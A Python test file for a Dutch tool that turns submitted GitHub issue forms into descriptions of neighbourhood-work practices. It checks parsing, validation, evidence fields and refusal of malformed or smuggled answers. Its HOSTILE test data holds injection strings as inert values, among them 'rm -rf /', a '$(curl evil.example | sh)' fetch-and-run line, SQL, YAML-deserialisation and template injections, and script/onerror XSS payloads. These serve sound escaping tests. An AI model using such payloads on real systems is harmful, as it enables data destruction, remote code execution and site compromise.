"""`wwidw form`: a submitted GitHub issue form becomes a description, written by the scaffold.

The issue bodies here are made the way GitHub makes them, from the committed issue form: one
``### <label>`` heading per element, a blank line, the value, and ``_No response_`` for empty ones.
"""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from wwidw_build.audience import Audience
from wwidw_build.authoring.issue_form import (
    FIELDS,
    NO_RESPONSE,
    clean_section,
    option_ids,
    parse_issue_body,
    split_fields,
)
from wwidw_build.build import build_all
from wwidw_build.checks.schema_check import subschema
from wwidw_build.cli.main import cli
from wwidw_build.load import load_content
from wwidw_build.pipeline import load_and_validate
from wwidw_build.render import MkDocsRenderer
from wwidw_build.sections import split_sections

REPO = Path(__file__).resolve().parent.parent
FORM = REPO / ".github" / "ISSUE_TEMPLATE" / "nieuwe-praktijk.yml"

SAMPLE = {
    "Titel": "Buurtkamer aan de Dijk",
    "Samenvatting": "Bewoners runnen samen met een opbouwwerker een buurtkamer\nwaar iedereen binnen kan lopen.",
    "Organisatie": "Stichting Welzijn De Brug (welzijn-de-brug)",
    "Gemeente": "Rivierstede",
    "Startjaar": "2022",
    "Projectstatus": "lopend",
    "Thema's": "Sociale cohesie (sociale-cohesie), Eenzaamheid (eenzaamheid)",
    "Doelgroepen": "Ouderen (ouderen)",
    "Beoogde effecten": "minder-burenoverlast, meer-vertrouwen-in-buren",
    "Zichtbaarheid": "openbaar",
    "Naam contactpersoon": "Fatima El Amrani",
    "E-mailadres contactpersoon": "f.elamrani@debrug.example",
    "Contactgegevens openbaar": "- [ ] Mijn contactgegevens mogen op de openbare site staan",
    "Auteurs": "Fatima El Amrani, Joost de Boer",
    "Aanleiding": "In de Dijkbuurt zagen we veel eenzaamheid onder oudere bewoners die alleen wonen.",
    "Privacy": "- [X] Er staan geen persoonsgegevens van bewoners in deze beschrijving",
}

# GitHub shows "< script >" as text (a tag starts with "<" and a letter): the form accepts it, and
# the pages must escape it. Real tags are refused (test_issue_form_shown.py).
SCRIPT = "< script >alert(document.domain)< /script >"
HOSTILE = {
    "Titel": "$(rm -rf /) `id` : - '\" {{ x }} !!python/object " + SCRIPT,
    "Samenvatting": "- item: waarde # geen commentaar {{ secrets.TOKEN }} ${HOME} &anker *alias "
    "!!python/object/apply:os.system " + SCRIPT,
    "Gemeente": "'\"; rm -rf / #",
    "Wijk of buurt": "yes",
    "Naam contactpersoon": "Robert'); DROP TABLE -- `whoami`",
    "Auteurs": "$(curl evil.example | sh), {{ 7*7 }}",
    "Aanleiding": "Tekst met $(rm -rf /) en `uname -a` en '\"{{ }}' en "
    + SCRIPT
    + " en < img src=x onerror=alert(1) >.\n"
    "\n"
    "---\n"
    "titel: nep\n"
    "- lijstje: !!python/object:os.system",
}


def form_labels() -> list[str]:
    """The labels of the committed form, in order: what GitHub writes as ### headings."""
    form = yaml.safe_load(FORM.read_text(encoding="utf-8"))
    return [e["attributes"]["label"] for e in form["body"] if e["type"] != "markdown"]


def submitted(values: dict[str, str], newline: str = "\n") -> str:
    """An issue body as GitHub writes it for a submitted form."""
    parts = [f"### {label}\n\n{values.get(label) or NO_RESPONSE}" for label in form_labels()]
    return "\n\n".join(parts).replace("\n", newline) + newline


def run_formulier(content: Path, body: str, tmp_path: Path) -> subprocess.CompletedProcess:
    issue = tmp_path / "issue.md"
    issue.write_text(body, encoding="utf-8")
    return subprocess.run(
        [sys.executable, "-m", "wwidw_build", "form", str(issue), "--content", str(content)],
        capture_output=True,
        text=True,
    )


def written(result: subprocess.CompletedProcess) -> Path:
    assert result.returncode == 0, result.stderr
    match = re.search(r"^Geschreven: (.+)$", result.stdout, re.M)
    assert match, result.stdout
    return Path(match.group(1))


def errors_in(content: Path) -> list:
    return [d for d in load_and_validate(content)[1] if d.is_error]


def document(content: Path, path: Path):
    return next(d for d in load_content(content)[0].documents if d.id == path.stem)


def test_the_parser_reads_every_label_of_the_committed_form():
    assert form_labels() == [f.label for f in FIELDS]


def test_a_submitted_form_becomes_a_valid_description(content_copy, tmp_path):
    path = written(run_formulier(content_copy, submitted(SAMPLE), tmp_path))
    assert path == content_copy.absolute() / "praktijken" / "buurtkamer-aan-de-dijk.md"
    assert errors_in(content_copy) == []
    doc = document(content_copy, path)
    assert doc.meta["organisatie"] == "welzijn-de-brug" and doc.meta["startjaar"] == 2022
    assert doc.meta["themas"] == ["sociale-cohesie", "eenzaamheid"] and doc.meta["doelgroepen"] == [
        "ouderen"
    ]
    assert doc.meta["beoogde_effecten"] == ["minder-burenoverlast", "meer-vertrouwen-in-buren"]
    assert doc.meta["contact"] == {
        "naam": "Fatima El Amrani",
        "email": "f.elamrani@debrug.example",
        "openbaar": False,
    }
    assert (
        doc.meta["auteurs"] == ["Fatima El Amrani", "Joost de Boer"] and doc.meta["concept"] is True
    )
    assert doc.meta["samenvatting"].startswith(
        "Bewoners runnen samen met een opbouwwerker een buurtkamer waar"
    )
    assert "wijk" not in doc.meta and "eindjaar" not in doc.meta  # _No response_ leaves a field out
    sections = split_sections(doc.body)
    assert sections["aanleiding"].strip() == SAMPLE["Aanleiding"]
    assert (
        "Schrijftip" in sections["doel"]
    )  # an empty section keeps the writing hint, as with wwidw new


def test_windows_line_endings_and_a_checked_box(content_copy, tmp_path):
    values = SAMPLE | {
        "Contactgegevens openbaar": "- [X] Mijn contactgegevens mogen op de openbare site staan"
    }
    path = written(run_formulier(content_copy, submitted(values, newline="\r\n"), tmp_path))
    doc = document(content_copy, path)
    assert doc.meta["contact"]["openbaar"] is True and doc.meta["titel"] == "Buurtkamer aan de Dijk"


def test_hostile_values_end_up_as_inert_text(content_copy, tmp_path):
    path = written(run_formulier(content_copy, submitted(SAMPLE | HOSTILE), tmp_path))
    assert errors_in(content_copy) == []
    doc = document(content_copy, path)
    assert doc.meta["titel"] == HOSTILE["Titel"]
    assert doc.meta["samenvatting"] == HOSTILE["Samenvatting"]
    assert doc.meta["gemeente"] == HOSTILE["Gemeente"] and doc.meta["wijk"] == "yes"
    assert doc.meta["contact"]["naam"] == HOSTILE["Naam contactpersoon"]
    assert doc.meta["auteurs"] == ["$(curl evil.example | sh)", "{{ 7*7 }}"]
    assert set(doc.meta) <= {
        "titel",
        "samenvatting",
        "organisatie",
        "zichtbaarheid",
        "gemeente",
        "wijk",
        "startjaar",
        "projectstatus",
        "themas",
        "doelgroepen",
        "beoogde_effecten",
        "contact",
        "auteurs",
        "laatst_bijgewerkt",
        "concept",
    }
    assert split_sections(doc.body)["aanleiding"].strip() == HOSTILE["Aanleiding"]
    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", path.stem)


def test_hostile_values_are_escaped_in_the_built_pages(content_copy, tmp_path):
    path = written(run_formulier(content_copy, submitted(SAMPLE | HOSTILE), tmp_path))
    content, diagnostics = load_and_validate(content_copy)
    assert not [d for d in diagnostics if d.is_error]
    out = tmp_path / "site"
    results = build_all(
        content,
        [Audience("openbaar")],
        out,
        renderer=MkDocsRenderer(),
        include_concepts=True,
        workers=1,
    )
    assert all(r.ok for r in results), results
    page = (out / "openbaar" / "praktijken" / path.stem / "index.html").read_text(encoding="utf-8")
    assert "rm -rf /" in page and "&lt; script &gt;" in page  # the title is there, as text
    for file in (out / "openbaar").rglob("*"):
        if file.suffix in (".html", ".xml"):
            text = file.read_text(encoding="utf-8")
            assert "< script >alert" not in text and "< img src=x" not in text, file


def test_an_invalid_form_writes_nothing(content_copy, tmp_path):
    values = SAMPLE | {
        "Startjaar": "twintig tweeëntwintig",
        "Organisatie": "Welzijn (welzijn-de-brg)",
    }
    result = run_formulier(content_copy, submitted(values), tmp_path)
    assert result.returncode == 1
    assert "formulier-geen-jaar" in result.stderr and "onbekende-organisatie" in result.stderr
    assert (
        "welzijn-de-brug" in result.stderr
    )  # "bedoelde u ...?", from the same checks as wwidw new
    assert not (content_copy / "praktijken" / "buurtkamer-aan-de-dijk.md").exists()


def test_a_form_with_hidden_answers_writes_nothing(content_copy, tmp_path):
    """Issue 13 item 6: GitHub shows the answers with an empty Zichtbaarheid and hides, in an HTML
    comment in the summary, a second set of answers (Zichtbaarheid: openbaar) that the parser read."""
    hidden = "".join(
        f"### {label}\n\n{(SAMPLE | {'Titel': 'Verborgen'}).get(label) or NO_RESPONSE}\n\n"
        for label in form_labels()[2:]
    )
    values = SAMPLE | {
        "Samenvatting": SAMPLE["Samenvatting"] + "\n<!--\n" + hidden + "-->",
        "Zichtbaarheid": "",
    }
    result = run_formulier(content_copy, submitted(values), tmp_path)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "formulier-kop-dubbel" in result.stderr and "Er is niets geschreven" in result.stderr
    assert "De vraag '### Organisatie' staat meer dan één keer in het formulier." in result.stderr
    names = {p.name for p in (content_copy / "praktijken").iterdir()}
    assert names == {p.name for p in (REPO / "content" / "praktijken").iterdir()}


def test_an_existing_description_is_never_overwritten(content_copy, tmp_path):
    target = content_copy / "praktijken" / "buurtbemiddeling-rivierenwijk.md"
    before = target.read_bytes()
    result = run_formulier(
        content_copy, submitted(SAMPLE | {"Titel": "Buurtbemiddeling Rivierenwijk"}), tmp_path
    )
    assert result.returncode == 1 and "bestaat al" in result.stderr
    assert target.read_bytes() == before


def test_formulier_is_a_cli_command(content_copy, tmp_path):
    issue = tmp_path / "issue.md"
    issue.write_bytes(b"\xff\xfe")
    result = CliRunner().invoke(cli, ["form", str(issue), "--content", str(content_copy)])
    assert result.exit_code == 2 and "UTF-8" in result.output


def test_a_heading_typed_inside_an_answer_is_refused():
    """GitHub would show it as a question of the form (formerly demoted and kept)."""
    values = SAMPLE | {
        "Aanpak": "Eerst dit.\n\n### Gemeente\n\nDit is geen gemeente.\n## Doel\n# Kop"
    }
    answers, problems = parse_issue_body(submitted(values), "issue.md")
    assert [p.code for p in problems] == ["formulier-kop-dubbel"]
    assert answers.gemeente == "" and answers.secties == {}  # nothing is read from it
    values = SAMPLE | {"Aanpak": "Eerst dit.\n\n### Stap 1\n\n## Doel"}
    _, problems = parse_issue_body(submitted(values), "issue.md")
    assert [p.code for p in problems] == ["formulier-kop-in-antwoord"]
    assert "'### Stap 1'" in problems[0].message and "'Aanpak'" in problems[0].message


def test_section_texts_cannot_swallow_the_next_section():
    assert clean_section("```\ncode zonder einde") == "```\ncode zonder einde\n```"
    assert clean_section("<!-- verborgen") == "&lt;!-- verborgen"
    assert clean_section("## Resultaten\ntekst") == "### Resultaten\ntekst"


def test_option_ids():
    assert option_ids("Jongeren (12-23 jaar) (jongeren), Ouderen (ouderen)") == [
        "jongeren",
        "ouderen",
    ]
    assert option_ids("minder-burenoverlast,  meer-groen-in-de-wijk\nminder-burenoverlast") == [
        "minder-burenoverlast",
        "meer-groen-in-de-wijk",
    ]
    assert option_ids("") == []


@pytest.mark.parametrize("value", ["2022", " 2022 "])
def test_years(value):
    answers, problems = parse_issue_body(submitted(SAMPLE | {"Startjaar": value}), "issue.md")
    assert answers.startjaar == 2022 and problems == []


def test_a_year_that_is_not_a_year_is_located():
    answers, problems = parse_issue_body(submitted(SAMPLE | {"Eindjaar": "ooit"}), "issue.md")
    assert answers.eindjaar is None and [p.code for p in problems] == ["formulier-geen-jaar"]
    assert submitted(SAMPLE).splitlines()[problems[0].line - 1] == NO_RESPONSE
    assert problems[0].file == "issue.md"


LABELS = {f.label for f in FIELDS}
TEXT = st.text(alphabet=st.sampled_from(list("ab #`-:'\"{}!<>\n\r_*[]")), max_size=60)


@settings(max_examples=80, deadline=None)
@given(st.fixed_dictionaries({f.label: TEXT for f in FIELDS}))
def test_every_value_comes_back_from_its_own_heading(values):
    body = submitted(values)
    fields = split_fields(body)
    for field in FIELDS:
        raw = values[field.label].replace("\r\n", "\n").replace("\r", "\n").strip()
        if (
            not raw
            or raw == NO_RESPONSE
            or any(
                line.rstrip() in {f"### {label}" for label in LABELS} for line in raw.split("\n")
            )
        ):
            continue
        assert fields[field.key].text == raw


# --- The evidence (issue 14 item 7) ---------------------------------------------------------------

EVIDENCE = {
    "Resultaten per effect": "minder-burenoverlast | werkt | overlastmeldingen per jaar | 140 | 95\n"
    "\n"
    "meer-vertrouwen-in-buren | Nog onbekend | vertrouwen in buren (enquête) | 35 procent",
    "Niet-beoogde effecten": "minder-parkeeroverlast | averechts | klachten over parkeren",
    "Meetontwerp": "Voor- en nameting (voor_nameting)",
    "Evaluatie": "extern",
    "Evaluatie uitgevoerd door": "Onderzoeksbureau Wijkwaarde",
    "Bewijsniveau": "Goed beschreven (goed_beschreven)",
    "Bereik": "64",
    "Eenheid van het bereik": "huishoudens",
    "Totale kosten (euro)": "38000",
    "Kosten per deelnemer (euro)": "593,75",
    "Financiering": "gemeente, woningcorporatie",
}


def test_a_form_with_the_evidence_becomes_a_description_with_it(content_copy, tmp_path):
    path = written(run_formulier(content_copy, submitted(SAMPLE | EVIDENCE), tmp_path))
    assert errors_in(content_copy) == []
    meta = document(content_copy, path).meta
    assert meta["resultaten"] == [
        {
            "effect": "minder-burenoverlast",
            "richting": "werkt",
            "indicator": "overlastmeldingen per jaar",
            "nulmeting": 140,
            "eindmeting": 95,
        },
        {
            "effect": "meer-vertrouwen-in-buren",
            "richting": "nog_onbekend",
            "indicator": "vertrouwen in buren (enquête)",
            "nulmeting": "35 procent",
        },
    ]
    assert meta["niet_beoogde_effecten"] == [
        {
            "effect": "minder-parkeeroverlast",
            "richting": "averechts",
            "indicator": "klachten over parkeren",
        }
    ]
    assert meta["meetontwerp"] == "voor_nameting" and meta["bewijsniveau"] == "goed_beschreven"
    assert meta["evaluatie"] == {"soort": "extern", "door": "Onderzoeksbureau Wijkwaarde"}
    assert (meta["bereik"], meta["bereik_eenheid"]) == (64, "huishoudens")
    assert meta["kosten"] == {
        "totaal_eur": 38000,
        "per_deelnemer_eur": 593.75,
        "financiering": ["gemeente", "woningcorporatie"],
    }


def test_every_option_of_the_evidence_dropdowns_is_read_as_its_id():
    form = yaml.safe_load(FORM.read_text(encoding="utf-8"))
    by_label = {e["attributes"]["label"]: e for e in form["body"] if "id" in e}
    for label, key in (("Meetontwerp", "meetontwerp"), ("Bewijsniveau", "bewijsniveau")):
        options = by_label[label]["attributes"]["options"]
        ids = [
            getattr(parse_issue_body(submitted(SAMPLE | {label: o}), "i.md")[0], key)
            for o in options
        ]
        assert ids == list(subschema("praktijk", (key,))["enum"])


def test_a_claim_above_the_ceiling_writes_nothing(content_copy, tmp_path):
    values = (
        SAMPLE
        | EVIDENCE
        | {"Bewijsniveau": "Goede aanwijzingen voor effectiviteit (goede_aanwijzingen)"}
    )
    result = run_formulier(content_copy, submitted(values), tmp_path)
    assert result.returncode == 1 and "bewijsniveau-te-hoog" in result.stderr
    assert not (content_copy / "praktijken" / "buurtkamer-aan-de-dijk.md").exists()


def test_a_wrong_result_line_or_number_is_refused_naming_the_line(content_copy, tmp_path):
    values = (
        SAMPLE
        | EVIDENCE
        | {
            "Resultaten per effect": "minder-burenoverlast | werkt\nmeer-vertrouwen-in-buren | werkt niet",
            "Niet-beoogde effecten": "Parkeeroverlast | averechts",
            "Bereik": "1.200",
        }
    )
    body = submitted(values)
    result = run_formulier(content_copy, body, tmp_path)
    assert result.returncode == 1 and "Er is niets geschreven" in result.stderr
    assert (
        "De regel 'meer-vertrouwen-in-buren | werkt niet' bij 'Resultaten per effect' in het "
        "formulier klopt niet: 'werkt niet' is geen richting" in result.stderr
    )
    assert "'Parkeeroverlast' is geen effect-id" in result.stderr
    assert "'1.200' is geen heel getal" in result.stderr
    _, problems = parse_issue_body(body, "issue.md")
    lines = body.splitlines()
    assert [(p.code, lines[p.line - 1]) for p in problems] == [
        ("formulier-regel", "meer-vertrouwen-in-buren | werkt niet"),
        ("formulier-regel", "Parkeeroverlast | averechts"),
        ("formulier-geen-getal", "1.200"),
    ]
    assert not (content_copy / "praktijken" / "buurtkamer-aan-de-dijk.md").exists()
